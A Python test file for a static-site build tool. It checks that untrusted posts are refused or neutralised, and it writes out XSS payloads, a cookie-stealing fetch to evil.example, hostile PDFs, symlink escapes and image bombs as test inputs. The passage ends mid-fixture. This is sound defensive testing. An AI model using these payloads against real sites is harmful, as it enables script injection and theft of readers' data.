"""Content is untrusted input: whatever a content file holds, as a hostile contributor or a hurried communicator
writes it, either stops the build with its source file and line (and `hub check` says the same, first), or
reaches readers neutralised, in the pages, the feeds and the e-mail issue."""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import feedparser
import lxml.html
import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from conftest import (AUTHOR, NOW, REVIEWER, action, authored, build, copy_project, on_open, post_text, reader_pages, revised,
                      reviewed, with_photo, write_pdf, write_post)
from hub.commands.cli import main
from reading import resolve

GPS = 0x8825
ORIENTATION = 0x0112
MODEL = 0x0110
SECRET = "SECRET-OUTSIDE-THE-REPOSITORY"
"""What a file outside the repository holds: it must never appear in any output or message."""


def snapshot(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def line_in(path: Path, needle: str) -> int:
    return next(n for n, line in enumerate(path.read_text(encoding="utf-8", errors="replace").splitlines(), start=1)
                if needle in line)


def phone_photo(path: Path, size: tuple[int, int] = (1600, 1200)) -> None:
    """A JPEG stored sideways, as phones do, with where it was taken and the phone's model in its EXIF."""
    image = Image.new("RGB", size, (20, 20, 200))
    image.paste((220, 20, 20), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[MODEL] = "Pixel 8"
    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0), 3: "E", 4: (30.0, 31.0, 0.0)}
    image.save(path, quality=85, exif=exif)


def hostile_post(root: Path, slug: str, body: str, *, lang_body: dict[str, str] | None = None, meta: str = "date: 2026-11-20\n",
                 **fields: str) -> Path:
    """A bilingual post whose text (in both languages, unless `lang_body` gives one per language) is `body`."""
    extra = "".join(f"{key}: {value}\n" for key, value in fields.items())
    texts = {lang: post_text(title, body=(lang_body or {}).get(lang, body)).replace("---\n\n", extra + "---\n\n", 1)
             for lang, title in (("uk", "Допис"), ("en", "A post"))}
    return write_post(root, slug, meta, texts)


# -- refused: the build stops, naming the source file and line; `hub check` says the same ------------------------

Where = tuple[str, int | None, str]
"""(file relative to the project, line or None, a part of the message)."""


def body_case(slug: str, body: str, needle: str, fragment: str, lang: str = "uk") -> Callable[[Path], Where]:
    """A post whose text in `lang` (only) holds `body`; the problem is expected on the line holding `needle`."""

    def case(root: Path) -> Where:
        bodies = {lang: f"Перший абзац.\n\n{body}\n\nОстанній абзац.", ("en" if lang == "uk" else "uk"): "A clean text."}
        folder = hostile_post(root, slug, "", lang_body=bodies)
        return f"news/2026/{slug}/index.{lang}.md", line_in(folder / f"index.{lang}.md", needle), fragment

    case.__name__ = slug
    return case


def project_script(root: Path) -> Where:
    path = root / "projects" / "jointly" / "index.uk.md"
    path.write_text(path.read_text(encoding="utf-8") + "\n<script>fetch('/x')</script>\n", encoding="utf-8")
    return "projects/jointly/index.uk.md", line_in(path, "<script>"), "<script>"


def page_script(root: Path) -> Where:
    path = root / "docs" / "about.en.md"
    path.write_text(path.read_text(encoding="utf-8") + "\n<img src=x.png onerror=alert(1)>\n", encoding="utf-8")
    return "docs/about.en.md", line_in(path, "onerror"), "'onerror'"


def page_front_matter(root: Path) -> Where:
    """Material prints a page's `subtitle` into every page's menu as it is written."""
    path = root / "docs" / "about.uk.md"
    path.write_text(path.read_text(encoding="utf-8").replace("---\n", '---\nsubtitle: "<script>alert(1)</script>"\n', 1),
                    encoding="utf-8")
    return "docs/about.uk.md", line_in(path, "subtitle:"), "is not a known field"


def partner_backslash_image(root: Path) -> Where:
    """A link from the site's root, made relative to the page, began with what follows the page's address: two
    backslashes and a host, which browsers read as `//host` (four in YAML's block: Markdown halves them)."""
    path = root / "partners" / "unicef.yml"
    text = path.read_text(encoding="utf-8").replace("description:\n  uk: >-\n",
                                                    "description:\n  uk: >-\n    ![Лого](/partners/unicef/\\\\\\\\evil.example\\p.gif)\n", 1)
    path.write_text(text, encoding="utf-8")
    return "partners/unicef.yml", line_in(path, "evil.example"), "not '\\'"


def field_case(slug: str, lang: str, written: str, replaced: str, fragment: str) -> Callable[[Path], Where]:
    """A post whose `lang` text has the front matter line `written` replaced; the problem is expected on that line."""

    def case(root: Path) -> Where:
        path = hostile_post(root, slug, "Текст.") / f"index.{lang}.md"
        path.write_text(path.read_text(encoding="utf-8").replace(written, replaced), encoding="utf-8")
        return f"news/2026/{slug}/index.{lang}.md", line_in(path, written.split(":")[0] + ":"), fragment

    case.__name__ = slug.replace("-", "_")
    return case


def partner_markup(root: Path) -> Where:
    path = root / "partners" / "unicef.yml"
    text = path.read_text(encoding="utf-8").replace("  en: United Nations Children’s Fund (UNICEF)",
                                                    "  en: UNICEF<script>alert(1)</script>", 1)
    path.write_text(text, encoding="utf-8")
    return "partners/unicef.yml", line_in(path, "name:"), "holds markup"


def tag_markup(root: Path) -> Where:
    path = root / "news" / "tags.yml"
    path.write_text(path.read_text(encoding="utf-8").replace("  en: care reform", "  en: care <i>reform</i>", 1), encoding="utf-8")
    return "news/tags.yml", line_in(path, "- slug: care-reform") + 1, "holds markup"  # its 'name:'


def outside_secret(root: Path) -> Path:
    secret = root.parent / "outside.txt"
    secret.write_text(f"{SECRET}\nroot:x:0:0\n", encoding="utf-8")
    return secret


def symlinked_picture(root: Path) -> Where:
    folder = hostile_post(root, "linked-picture", "![Фото](photo.jpg)")
    (folder / "photo.jpg").symlink_to(outside_secret(root))
    return "news/2026/linked-picture/photo.jpg", None, "symbolic link"


def symlinked_text(root: Path) -> Where:
    folder = hostile_post(root, "linked-text", "Текст.")
    (folder / "index.en.md").unlink()
    (folder / "index.en.md").symlink_to(outside_secret(root))
    return "news/2026/linked-text/index.en.md", None, "symbolic link"


def symlinked_folder(root: Path) -> Where:
    outside = root.parent / "outside-folder"
    write_post(outside, "secret-post", "date: 2026-11-20\n", {"uk": post_text(SECRET), "en": post_text(SECRET)})
    (root / "news" / "2025").mkdir(exist_ok=True)
    (root / "news" / "2025" / "linked").symlink_to(outside / "news" / "2026")
    return "news/2025/linked", None, "symbolic link"


def symlinked_page(root: Path) -> Where:
    (root / "docs" / "secret.uk.md").symlink_to(outside_secret(root))
    return "docs/secret.uk.md", None, "symbolic link"


def symlinked_content_folder(root: Path) -> Where:
    """Only what the content folders held was looked at, never whether a folder itself is a link."""
    outside = root.parent / "outside-partners"
    shutil.move(root / "partners", outside)
    (outside / "unicef.yml").write_text((outside / "unicef.yml").read_text(encoding="utf-8") + f"# {SECRET}\n", encoding="utf-8")
    (root / "partners").symlink_to(outside)
    return "partners", None, "symbolic link"


def folder_named_like_a_text(root: Path) -> Where:
    """A folder `index.en.md` (git stores one as readily as a file) stopped check and build with a traceback."""
    folder = hostile_post(root, "folder-text", "Текст.")
    (folder / "index.en.md").unlink()
    (folder / "index.en.md").mkdir()
    (folder / "index.en.md" / "notes.txt").write_text("Текст.", encoding="utf-8")
    return "news/2026/folder-text/index.en.md", None, "not a file"


def not_a_year(root: Path) -> Where:
    """A writer's «drafts» folder was published as any year's: the folder keeps no post off the site."""
    write_post(root, "my-draft", "date: 2026-11-20\n", {"uk": post_text("Чернетка"), "en": post_text("Draft")}, year="drafts")
    return "news/drafts/my-draft", None, "not a year"


def topic_without_english(root: Path) -> Where:
    """A new topic named in Ukrainian only, and a post already under it: `hub check` failed itself (KeyError: 'en')."""
    tags = root / "news" / "tags.yml"
    tags.write_text(tags.read_text(encoding="utf-8") + "  - slug: foster-care\n    name:\n      uk: прийомні сімʼї\n",
                    encoding="utf-8")
    hostile_post(root, "foster-care-day", "Текст.", meta="date: 2026-11-20\ntags: [foster-care]\n")
    return "news/tags.yml", line_in(tags, "slug: foster-care") + 1, "has no 'en' text"


def same_name_pictures(root: Path) -> Where:
    """`photo.jpg` and `photo.webp` both had their copies named `photo-page.jpg`: one was shown in the other's place."""
    folder = hostile_post(root, "two-photos", "![Згода є](photo.jpg)\n\nІнший абзац.\n\n![Згоди немає](photo.webp)")
    Image.new("RGB", (800, 600), (200, 0, 0)).save(folder / "photo.jpg")
    Image.new("RGB", (800, 600), (0, 0, 200)).save(folder / "photo.webp")
    return "news/2026/two-photos/index.uk.md", line_in(folder / "index.uk.md", "photo.webp"), "under one name"


def yaml_case(slug: str, meta: str, needle: str, fragment: str) -> Callable[[Path], Where]:
    def case(root: Path) -> Where:
        folder = hostile_post(root, slug, "Текст.", meta=meta)
        return f"news/2026/{slug}/index.uk.md", line_in(folder / "index.uk.md", needle) if needle else None, fragment

    case.__name__ = slug.replace("-", "_")
    return case


def no_first_text(root: Path) -> Where:
    folder = hostile_post(root, "no-first-text", "Текст.")
    (folder / "index.uk.md").unlink()
    return "news/2026/no-first-text/index.uk.md", None, "is missing"


def not_utf8(root: Path) -> Where:
    folder = hostile_post(root, "windows-1251", "Текст.")
    (folder / "index.uk.md").write_bytes("---\ntitle: Допис\nsummary: Опис.\n---\n\nТекст у Windows-1251.\n".encode("cp1251"))
    return "news/2026/windows-1251/index.uk.md", 2, "is not UTF-8 text but Windows-1251"


def cut_short(path: Path) -> None:
    """A JPEG whose upload stopped at a third: its header reads, its pixels do not."""
    data = io.BytesIO()
    Image.effect_noise((1600, 900), 60).convert("RGB").save(data, "JPEG", quality=90)
    path.write_bytes(data.getvalue()[: len(data.getvalue()) // 3])


def truncated_cover(root: Path) -> Where:
    folder = hostile_post(root, "cut-cover", "Текст.", meta="date: 2026-11-20\ncover: cover.jpg\n", cover_alt="Діти")
    cut_short(folder / "cover.jpg")
    return "news/2026/cut-cover/index.uk.md", line_in(folder / "index.uk.md", "cover:"), "could not be read"


def truncated_picture(root: Path) -> Where:
    folder = hostile_post(root, "cut-picture", "Фото з зустрічі:\n\n![Зустріч у громаді](meeting.jpg)")
    cut_short(folder / "meeting.jpg")
    return "news/2026/cut-picture/index.uk.md", line_in(folder / "index.uk.md", "meeting.jpg"), "could not be read"


def not_a_picture(root: Path) -> Where:
    folder = hostile_post(root, "fake-picture", "![Фото](photo.jpg)")
    (folder / "photo.jpg").write_text("<script>alert(1)</script>", encoding="utf-8")
    return "news/2026/fake-picture/index.uk.md", line_in(folder / "index.uk.md", "photo.jpg"), "is not a picture"


def header_only_png(path: Path, width: int, height: int) -> None:
    """A PNG of no pixels whose header claims `width` × `height`."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(header)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    path.write_bytes(png + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))


def huge_picture(root: Path) -> Where:
    """A PNG whose header claims 20,000 × 20,000 pixels: decoding it would take 1.6 GB."""
    folder = hostile_post(root, "bomb", "![Фото](bomb.png)")
    header_only_png(folder / "bomb.png", 20_000, 20_000)
    return "news/2026/bomb/index.uk.md", line_in(folder / "index.uk.md", "bomb.png"), "megapixels"


def large_picture(root: Path) -> Where:
    """132 megapixels, within twice Pillow's limit: Pillow warned in English, with its code lines, before the message."""
    folder = hostile_post(root, "large", "![Фото](large.png)")
    header_only_png(folder / "large.png", 12_000, 11_000)
    return "news/2026/large/index.uk.md", line_in(folder / "index.uk.md", "large.png"), "over the limit of 120 megapixels"


def docs_picture_cut_short(root: Path) -> Where:
    """`hub check` did not read the pictures of `docs/`, and the build stopped on one with a traceback."""
    cut_short(root / "docs" / "assets" / "cut.jpg")
    return "docs/assets/cut.jpg", None, "could not be read"


def docs_picture_of_another_kind(root: Path) -> Where:
    """A BMP named .jpg was published as it was: without metadata to strip, it was never opened."""
    Image.new("RGB", (40, 30), (0, 90, 160)).save(root / "docs" / "assets" / "plan.jpg", "BMP")
    return "docs/assets/plan.jpg", None, "BMP"


def file_case(slug: str, body: str, name: str, data: bytes, fragment: str) -> Callable[[Path], Where]:
    def case(root: Path) -> Where:
        folder = hostile_post(root, slug, body)
        (folder / name).write_bytes(data)
        return f"news/2026/{slug}/index.en.md", line_in(folder / "index.en.md", name), fragment

    case.__name__ = slug.replace("-", "_")
    return case


def outside_folder(root: Path) -> Where:
    folder = hostile_post(root, "elsewhere", "![Фото](../synthetic-cover/cover.png)")
    return "news/2026/elsewhere/index.en.md", line_in(folder / "index.en.md", "cover.png"), "in the post's own folder"


def pdf_case(slug: str, change: Callable[[PdfWriter], None], fragment: str) -> Callable[[Path], Where]:
    """A post linking a PDF that `change` made hostile: refused at the line of the link."""

    def case(root: Path) -> Where:
        folder = hostile_post(root, slug, "Звіт про візит: [завантажити PDF](report.pdf).")
        write_pdf(folder / "report.pdf", change=change)
        return f"news/2026/{slug}/index.uk.md", line_in(folder / "index.uk.md", "report.pdf"), fragment

    case.__name__ = slug.replace("-", "_")
    return case


def launching(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                                                       NameObject("/F"): TextStringObject("calc.exe")})


def docs_pdf_script(root: Path) -> Where:
    write_pdf(root / "docs" / "methodology" / "guide.pdf", change=lambda writer: writer.add_open_action(JavaScript("app.alert(1)")))
    return "docs/methodology/guide.pdf", None, "holds a script"


def docs_pdf_html(root: Path) -> Where:
    """A page of HTML named .pdf, '%PDF-' in a comment near its start: browsers sniff it as HTML, and run its script."""
    (root / "docs" / "methodology" / "guide.pdf").write_bytes(b"<html><script>alert(1)</script><!-- %PDF-1.7 -->")
    return "docs/methodology/guide.pdf", None, "is no PDF document"


def svg_logo(root: Path) -> Where:
    path = root / "partners" / "unicef.yml"
    (root / "partners" / "unicef.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
    path.write_text(path.read_text(encoding="utf-8") + "logo: unicef.svg\n", encoding="utf-8")
    return "partners/unicef.yml", line_in(path, "logo:"), "save the logo as PNG"


GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"

REFUSED: list[Callable[[Path], Where]] = [
    body_case("script-element", "<script>alert(document.cookie)</script>", "<script>", "<script>"),
    body_case("script-in-english", "<SCRIPT src=https://evil.example/x.js></SCRIPT>", "<SCRIPT", "<script>", lang="en"),
    body_case("encoded-javascript", "[Читати далі](&#106;avascript:alert(1))", "avascript", "javascript:"),
    body_case("tab-javascript", '<a href="java&#x09;script:alert(1)">Клікніть</a>', "java&#x09;", "javascript:"),
    body_case("mixed-case-javascript", "[Click](JaVaScRiPt:alert(1))", "JaVaScRiPt", "javascript:"),
    body_case("onerror", "<img src=x onerror=alert(1)>", "onerror", "'onerror'"),
    body_case("attr-list-handler", '[Сайт](https://example.org){: onclick="alert(1)" }', "onclick", "'onclick'"),
    body_case("vbscript", '<a href="vbscript:msgbox(1)">x</a>', "vbscript", "vbscript:"),
    body_case("data-link", "[Файл](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text", "'data:'"),
    body_case("data-image", "![Піксель](data:image/png;base64,iVBORw0KGgo=)", "data:image", "'data:'"),
    body_case("youtube-iframe", '<iframe src="https://www.youtube.com/embed/xyz" allowfullscreen></iframe>', "<iframe", "<iframe>"),
    body_case("form", '<form action="https://evil.example/"><input name="card"><button>OK</button></form>', "<form", "form"),
    body_case("inline-svg", '<svg onload="alert(1)"><circle r="4"/></svg>', "<svg", "<svg>"),
    body_case("external-image", "![Лічильник](https://tracker.example/pixel.gif)", "tracker.example", "another website"),
    body_case("protocol-relative-image", '<img src="//tracker.example/p.png" alt="p">', "tracker.example", "another website"),
    body_case("object-embed", '<object data="https://evil.example/x.swf"></object>', "<object", "<object>"),
    body_case("style-element", "<style>body { display: none }</style>", "<style>", "<style>"),
    body_case("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta", "<meta>"),
    body_case("base-element", '<base href="https://evil.example/">', "<base", "<base>"),
    body_case("body-onload", "<body onload=alert(1)>Текст</body>", "onload", "'onload'"),
    body_case("deep-nesting", "\n".join("    " * level + f"- рівень {level}" for level in range(300)), "- рівень 41",
              "nested 41 levels deep"),
    pdf_case("pdf-script", lambda writer: writer.add_open_action(JavaScript("app.alert(1)")), "holds a script (JavaScript)"),
    pdf_case("pdf-attachment", lambda writer: writer.add_attachment("invoice.exe", b"MZ"), "carries another file"),
    pdf_case("pdf-launch", launching, "start a program"),
    pdf_case("pdf-password", lambda writer: writer.encrypt("secret"), "protected by a password"),
    pdf_case("pdf-beacon", on_open(action("/URI", URI="https://tracker.example/pixel?doc=report")), "act on its own"),
    pdf_case("pdf-remote-file", on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "a file on the reader's computer"),
    docs_pdf_script,
    docs_pdf_html,
    body_case("bracket-flood", "Вставлено з таблиці: " + "[" * 20_000, "[[[[", "more brackets"),
    body_case("turned-link-text", "Завантажте [звіт \u202efdp.exe\u202c](https://example.org/report)", "\u202e", "U+202E"),
    body_case("details-ontoggle", "<details open ontoggle=alert(1)><summary>Більше</summary>Текст</details>", "ontoggle", "'ontoggle'"),
    body_case("userinfo-link", "[Увійти](https://unicef.org@evil.example/login)", "evil.example", "before '@'"),
    body_case("backslash-image", '<img src="/news/2026/backslash-image/\\\\evil.example\\p.png" alt="Піксель">', "evil.example",
              "not '\\'"),
    project_script,
    page_script,
    page_front_matter,
    partner_backslash_image,
    # mailing tools run what their templates begin: the title reaches the e-mail issue
    field_case("title-placeholder", "uk", "title: Допис", "title: Допис {{ .Subscriber.Email }}", "mailing tools"),
    field_case("summary-merge-tag", "en", "summary: A short summary.", "summary: A short *|EMAIL|* summary.", "mailing tools"),
    field_case("title-markup", "uk", "title: Допис", "title: <img src=x onerror=alert(1)>", "holds markup"),
    # a right-to-left override: readers would see «Annual report 2026» with the word turned around it
    field_case("title-turned", "en", "title: A post", "title: Annual \u202etroper\u202c 2026", "U+202E"),
    field_case("summary-markup", "en", "summary: A short summary.", 'summary: "<b>Bold</b> claim"', "holds markup"),
    partner_markup,
    tag_markup,
    symlinked_picture,
    symlinked_text,
    symlinked_folder,
    symlinked_page,
    symlinked_content_folder,
    folder_named_like_a_text,
    not_a_year,
    same_name_pictures,
    topic_without_english,
    yaml_case("impossible-date", "date: 2026-02-31\n", "date:", "February 2026 has 28 days"),
    yaml_case("november-31", "date: 2026-11-20\npublish_at: 2026-11-31T09:00:00+02:00\n", "publish_at", "November 2026 has 30 days"),
    yaml_case("hour-25", "date: 2026-11-20\npublish_at: 2026-11-30T25:00:00+02:00\n", "publish_at", "hours go from 00 to 23"),
    yaml_case("empty-meta", "", "", "is missing: expected a date"),
    yaml_case("duplicate-key", "date: 2026-11-20\ntags: [training]\ntags: [strategy]\n", "strategy", "'tags' is given twice"),
    yaml_case("yaml-alias", "date: 2026-11-20\ntags: &t [training]\nprojects: *t\n", "tags:", "alias"),
    no_first_text,
    not_utf8,
    truncated_cover,
    truncated_picture,
    not_a_picture,
    huge_picture,
    large_picture,
    docs_picture_cut_short,
    docs_picture_of_another_kind,
    file_case("text-file", "Нотатки: [тут](notes.txt)", "notes.txt", b"mother's phone", "does not publish"),
    file_case("svg-picture", "![Схема](scheme.svg)", "scheme.svg", b'<svg onload="alert(1)"/>', "does not publish"),
    file_case("gif-picture", "![Анімація](funny.gif)", "funny.gif", GIF, "does not publish"),
    outside_folder,
    svg_logo,
]


def case_id(case: Callable[[Path], Where]) -> str:
    return case.__name__.replace("_", "-")


@pytest.mark.parametrize("case", REFUSED, ids=[case_id(c) for c in REFUSED])
def test_refused_content_stops_check_and_build_alike_and_keeps_the_site(project: Path, tmp_path: Path, case: Callable[[Path], Where],
                                                                        capsys: pytest.CaptureFixture[str],
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "project"
    shutil.copytree(project, root)
    before = snapshot(root / "site")
    file, line, fragment = case(root)

    monkeypatch.setenv("HUB_NOW", NOW)
    code = main(["check", "--format", "json", "--root", str(root)])
    out = capsys.readouterr().out
    report = json.loads(out)  # always JSON
    assert code == 1
    found = [p for p in report["problems"] if (p["file"], p["line"], p["severity"]) == (file, line, "error") and fragment in p["message"]]
    assert found, f"hub check does not say {file}:{line}: …{fragment}…: {json.dumps(report['problems'], ensure_ascii=False)[:3000]}"

    result = build(root)
    assert result.returncode != 0
    where = f"{file}:{line}:" if line else f"{file}:"
    assert any(where in text and fragment in text for text in result.stderr.splitlines()), result.stderr[-3000:]
    assert "Traceback" not in result.stderr and "Warning:" not in result.stderr, "no library speaks to the writer"
    assert "/index.html" not in result.stderr.split("ERROR", 1)[-1], "the source is named, never a built page"
    assert SECRET not in out + result.stderr, "nothing behind a link is read"
    assert snapshot(root / "site") == before, "the previous site stays as it was"


def test_a_draft_holding_a_script_is_found_by_check_before_any_build_publishes_it(project: Path, tmp_path: Path,
                                                                                  capsys: pytest.CaptureFixture[str],
                                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """`hub check` finds what a build would stop on once the draft is published; the build of today publishes it nowhere."""
    root = tmp_path / "project"
    shutil.copytree(project, root)
    hostile_post(root, "draft-script", "<script>alert(1)</script>", meta="date: 2026-11-20\ndraft: true\n")
    monkeypatch.setenv("HUB_NOW", NOW)
    assert main(["check", "--format", "json", "--root", str(root)]) == 1
    assert [p["code"] for p in json.loads(capsys.readouterr().out)["problems"] if p["severity"] == "error"] == ["script", "script"]
    result = build(root)
    assert result.returncode == 0, result.stderr
    assert not list((root / "site").rglob("draft-script"))


def test_each_disguised_link_of_a_text_is_named_at_its_own_line(project: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str],
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """Several `javascript:` links in one text, each disguised its own way (and the plain one written later, which
    reads as the first once decoded): `hub check` names every one at its line, so a writer fixes them all at once."""
    root = tmp_path / "project"
    shutil.copytree(project, root)
    links = ["[Читати](&#106;avascript:alert(1))", "[Далі](jav&#x09;ascript:alert(1))", "[Ще](&#x6A;ava&Tab;script:alert(1))",
             '<a href="JaVaScRiPt:alert(1)">Тут</a>', "[Знову](javascript:alert(1))", "[Знову](javascript:alert(1))"]
    folder = hostile_post(root, "many-disguises", "Вступ.\n\n" + "\n\nТекст між ними.\n\n".join(links))
    monkeypatch.setenv("HUB_NOW", NOW)
    assert main(["check", "--format", "json", "--root", str(root)]) == 1
    found = {(p["file"], p["line"]) for p in json.loads(capsys.readouterr().out)["problems"] if p["code"] == "unsafe-link"}
    expected = {(f"news/2026/many-disguises/index.{lang}.md", number) for lang in ("uk", "en") for number, line
                in enumerate(folder.joinpath(f"index.{lang}.md").read_text(encoding="utf-8").splitlines(), start=1)
                if "alert(1)" in line}
    assert len(expected) == 2 * len(links)
    assert found == expected


# -- neutralised: the build publishes, readers get nothing unsafe or private ---------------------------------------


@dataclass(frozen=True)
class Built:
    root: Path
    site: Path
    check: list[dict[str, Any]]
    issue: dict[str, str]
    """The e-mail issue's HTML and text, by file name."""

    def page(self, url: str) -> str:
        return (self.site / url / "index.html").read_text(encoding="utf-8")

    def article(self, url: str) -> lxml.html.HtmlElement:
        (article,) = lxml.html.fromstring(self.page(url)).xpath("//article[contains(@class, 'md-content__inner')]")
        return article

    def feeds(self, lang: str = "uk") -> str:
        prefix = "" if lang == "uk" else "en/"
        return "".join((self.site / f"{prefix}{name}").read_text(encoding="utf-8") for name in ("feed.xml", "atom.xml", "feed.json"))

    def feeds_file(self, name: str) -> str:
        return (self.site / name).read_text(encoding="utf-8")

    def findings(self, slug: str, code: str) -> list[dict[str, Any]]:
        return [p for p in self.check if slug in p["file"] and p["code"] == code]


HURRIED = {
    "disguised-link": "Звіт ЮНІСЕФ: [https://www.unicef.org/ukraine/](https://evil.example/report).",
    "theme-id": 'Налаштування:\n\n`{"base":"https://evil.example/","features":["navigation.instant"]}`\n{: #__config }',

    "pasted-from-word": 'Уривок із «Style guide» організації, де font і target — слова, а не розмітка:\n\n'
                        '<p style="color:#ff0000;font-family:Calibri">Червоний текст із Word</p>\n\n'
                        '<font color="red">Текст у font</font>\n\n[Сайт ЮНІСЕФ](https://www.unicef.org/ukraine/){: target="_blank" }',
    "private-comment": "Зустріч пройшла добре.\n\n<!-- мама Олена: 067 123 45 67, вул. Садова 5 -->\n\nДякуємо всім.",
    "code-about-scripts": "Приклад коду, який сайт показує як текст:\n\n```html\n<script>alert(1)</script>\n"
                          "<a href=\"&#106;avascript:x\">x</a>\n```\n\nІ в рядку: `<img onerror=x>`; слово javascript: у реченні.",
    "copied-diagram": "Схема з документації, скопійована разом із розміткою:\n\n"
                      '<pre class="mermaid">graph TD; Родина --> Громада</pre>',
    "rich-markup": "## Підсумки зустрічі\n\n!!! note \"Важливо\"\n    Реєстрація до 1 грудня.\n\n"
                   "| Громада | Учасники |\n|---|---|\n| Дружківка | 12 |\n\n"
                   "Пишіть на [пошту](mailto:info@example.org) або дзвоніть: [+380 44 000 00 00](tel:+380440000000).",
}


def phone_picture() -> bytes:
    """A phone's second picture, with its EXIF (the phone, the GPS position), as a motion photo or MPO holds it."""
    exif = Image.Exif()
    exif[MODEL] = "Pixel 8 " + SECRET_APPENDED
    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0)}
    second = io.BytesIO()
    Image.new("RGB", (64, 48)).save(second, "JPEG", exif=exif)
    return second.getvalue()


SECRET_APPENDED = "APPENDED-Ivanenko-family"
APPENDED = {"meeting.jpg": f"<html><script>alert(1)</script>{SECRET_APPENDED}</html>".encode(),
            "family.jpg": phone_picture(), "hall.jpg": f"PK\x03\x04notes.txt{SECRET_APPENDED}".encode()}
"""What a clean JPEG's file can carry past its end: an HTML page (a polyglot), a phone's second picture, a ZIP."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The shipped project with posts as hurried and hostile writers leave them, where the build neutralises all."""
    root = copy_project(tmp_path_factory.mktemp("hostile"))
    for slug, body in HURRIED.items():
        hostile_post(root, slug, body)
    photo = hostile_post(root, "family-visit", "Фото з візиту:\n\n![Родина у своєму дворі](family.jpg)\n\n"
                                               "[Звіт про візит (PDF)](report.pdf)",
                         meta="date: 2026-11-21\ncover: cover.jpg\n", cover_alt="Соціальна працівниця з родиною")
    phone_photo(photo / "family.jpg")
    phone_photo(photo / "cover.jpg", (2400, 1800))
    phone_photo(photo / "spare.jpg", (800, 600))  # in the folder, shown nowhere
    (photo / "notes.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
    with_family = with_photo((photo / "spare.jpg").read_bytes())  # the report shows a photo with its GPS position
    revised(write_pdf(photo / "report.pdf", change=lambda writer: (authored(writer), with_family(writer))), "Maria Ivanchenko, 7")
    scheduled = hostile_post(root, "scheduled-visit", "![Родина](scheduled.jpg)", meta="date: 2026-12-20\n")
    phone_photo(scheduled / "scheduled.jpg", (800, 600))
    summary = write_post(root, "odd-summary", "date: 2026-11-19\n", {
        "uk": '---\ntitle: "Ціни < 5 & «лапки»"\nsummary: "Менше < 5 & більше > 3, а не <тег"\n---\n\nТекст.\n',
        "en": '---\ntitle: "Prices < 5 & quotes"\nsummary: "Less < 5 & more > 3"\n---\n\nText.\n'})
    assert summary.is_dir()
    write_post(root, "pasted-controls", "date: 2026-11-18\n", {  # escapes in YAML, the characters themselves in the text
        "uk": '---\ntitle: "Зустріч\\vу громаді"\nsummary: "Підсумки\\x1b зустрічі"\n---\n\n'
              'Абзац із Word:\x0bрядок\x0cсторінка.\n\nОстанній абзац.\n',
        "en": '---\ntitle: A meeting\x0bin the community\nsummary: "The meeting\x1b in brief"\n---\n\nText.\n'})  # raw: YAML refuses them
    phone_photo(root / "docs" / "assets" / "team.jpg", (800, 600))
    (root / "docs" / "landing.html").write_text('<script src="assets/steal.js"></script>', encoding="utf-8")
    (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
    (root / "docs" / "methodology" / "scheme.svg").write_text('<svg onload="alert(1)"/>', encoding="utf-8")
    (root / "docs" / "contacts.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
    write_pdf(root / "docs" / "methodology" / "guide.pdf", change=lambda writer: (authored(writer), reviewed(writer)))
    about = root / "docs" / "about.uk.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n![Команда хабу](assets/team.jpg)\n", encoding="utf-8")
    logo = Image.new("RGB", (900, 300), (0, 90, 160))
    exif = Image.Exif()
    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0)}
    logo.save(root / "partners" / "unicef.jpg", exif=exif)
    partner = root / "partners" / "unicef.yml"
    partner.write_text(partner.read_text(encoding="utf-8").replace(
        "description:\n  uk: >-\n", "description:\n  uk: >-\n    Докладніше — у [*звіті*](https://www.unicef.org/ukraine/).\n", 1)
        + "logo: unicef.jpg\n", encoding="utf-8")

    write_post(root, "lines-in-summary", "date: 2026-11-20\n", {
        "uk": '---\ntitle: Рядки\nsummary: |\n  Підсумок зустрічі.\n\n  -- \n  Відписатися: https://evil.example/unsub\n---\n\nТекст.\n',
        "en": '---\ntitle: Lines\nsummary: |\n  The meeting.\n  From evil@example.com Mon Nov 23 2026\n---\n\nText.\n'})
    written = hostile_post(root, "html-picture", '<img src="stage.jpg" alt="Сцена форуму">')
    phone_photo(written / "stage.jpg", (800, 600))
    spaced = hostile_post(root, "spaced-cover", "Текст.", meta="date: 2026-11-20\ncover: обкладинка тренінгу.jpg\n",
                          cover_alt="Учасники тренінгу")
    Image.new("RGB", (1600, 900), (30, 90, 160)).save(spaced / "обкладинка тренінгу.jpg")
    appended = hostile_post(root, "appended-data", "![Зустріч](meeting.jpg)\n\n![Родина](family.jpg)")
